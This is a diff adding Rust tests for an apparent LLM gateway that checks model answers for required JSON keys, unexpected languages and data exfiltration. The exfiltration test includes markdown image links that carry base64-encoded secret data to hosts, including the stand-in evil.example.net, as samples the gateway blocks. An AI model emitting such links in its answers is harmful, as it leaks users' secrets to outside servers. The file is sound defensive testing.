@@ -833,3 +833,97 @@ fn the_audit_names_the_caller_by_salted_hash_only() {
         assert!(!event.contains("alice"), "{event}");
     }
 }
+
+/// A whole OpenAI answer whose one choice says `content`.
+fn whole_answer(content: &str) -> Vec<u8> {
+    serde_json::json!({"choices": [{"message": {"role": "assistant", "content": content}}]})
+        .to_string()
+        .into_bytes()
+}
+
+#[test]
+fn output_json_checks_whole_and_streamed_answers_with_their_keys() {
+    let e = engine(
+        r#"{"detectors":{"output_json":{"action":"block","required_keys":["city","temp"]}}}"#,
+    );
+    let ok = whole_answer("```json\n{\"city\": \"Oslo\", \"temp\": -3, \"extra\": [1]}\n```");
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    assert_eq!(e.inspect_answer(&mut ex, &ok), Decision::Forward);
+    assert!(ex.verdict().detections.is_empty());
+    for bad in ["Sure! The weather in Oslo is cold.", r#"{"city": "Oslo"}"#] {
+        let mut ex = e.start("/v1/chat/completions").unwrap();
+        let Decision::Rewrite(body) = e.inspect_answer(&mut ex, &whole_answer(bad)) else {
+            panic!("{bad:?} was not blocked");
+        };
+        assert!(String::from_utf8(body).unwrap().contains("output_json"));
+    }
+    // Streamed: the check runs once the text ends, and a block ends the stream with an error.
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    let out = e.stream_chunk(&mut ex, &openai_stream(&["{\"city\": ", "\"Oslo\"}"]), true);
+    let text = String::from_utf8(out).unwrap();
+    assert!(text.contains(r#""code":"output_json""#), "{text}");
+    assert!(!text.contains("[DONE]"), "{text}");
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    let out = e.stream_chunk(
+        &mut ex,
+        &openai_stream(&["{\"city\": \"Oslo\",", " \"temp\": -3}"]),
+        true,
+    );
+    let text = String::from_utf8(out).unwrap();
+    assert!(
+        !text.contains("output_json") && text.contains("[DONE]"),
+        "{text}"
+    );
+}
+
+#[test]
+fn output_language_alerts_on_answers_in_other_languages() {
+    let e =
+        engine(r#"{"detectors":{"output_language":{"action":"alert","languages":["en","de"]}}}"#);
+    let spanish = "El gato está en la casa y es muy feliz con los niños de la familia.";
+    let german = "Die Katze ist im Haus und sehr glücklich mit den Kindern der Familie.";
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    assert_eq!(
+        e.inspect_answer(&mut ex, &whole_answer(spanish)),
+        Decision::Forward
+    );
+    assert_eq!(ex.verdict().detections, ["output_language"]);
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    let _ = e.inspect_answer(&mut ex, &whole_answer(german));
+    assert!(ex.verdict().detections.is_empty());
+    // Streamed, split mid-word: the whole text is judged, and the answer still flows.
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    let (a, b) = spanish.split_at(20);
+    let out = e.stream_chunk(&mut ex, &openai_stream(&[a, b]), true);
+    assert_eq!(assembled(&out), spanish);
+    assert_eq!(ex.verdict().detections, ["output_language"]);
+    // Off by default: it needs to be told the languages.
+    let mut ex = engine("").start("/v1/chat/completions").unwrap();
+    let _ = engine("").inspect_answer(&mut ex, &whole_answer(spanish));
+    assert!(ex.verdict().detections.is_empty());
+}
+
+#[test]
+fn exfiltration_allow_list_comes_from_the_configuration_per_route() {
+    let e = engine(
+        r#"{"detectors":{"output_exfiltration":{"action":"block","allowed_hosts":["Docs.Example.com"]}},
+            "routes":[{"name":"strict","path_prefix":"/strict/","detectors":{"output_exfiltration":{"action":"block","allowed_hosts":[]}}}]}"#,
+    );
+    let image = "See ![chart](https://img.docs.example.com/c.png?d=c2VjcmV0IHRva2Vu)";
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    assert_eq!(
+        e.inspect_answer(&mut ex, &whole_answer(image)),
+        Decision::Forward
+    );
+    let mut ex = e.start("/strict/v1/chat/completions").unwrap();
+    assert!(matches!(
+        e.inspect_answer(&mut ex, &whole_answer(image)),
+        Decision::Rewrite(_)
+    ));
+    let elsewhere = "See ![chart](https://evil.example.net/c.png?d=c2VjcmV0IHRva2Vu)";
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    assert!(matches!(
+        e.inspect_answer(&mut ex, &whole_answer(elsewhere)),
+        Decision::Rewrite(_)
+    ));
+}
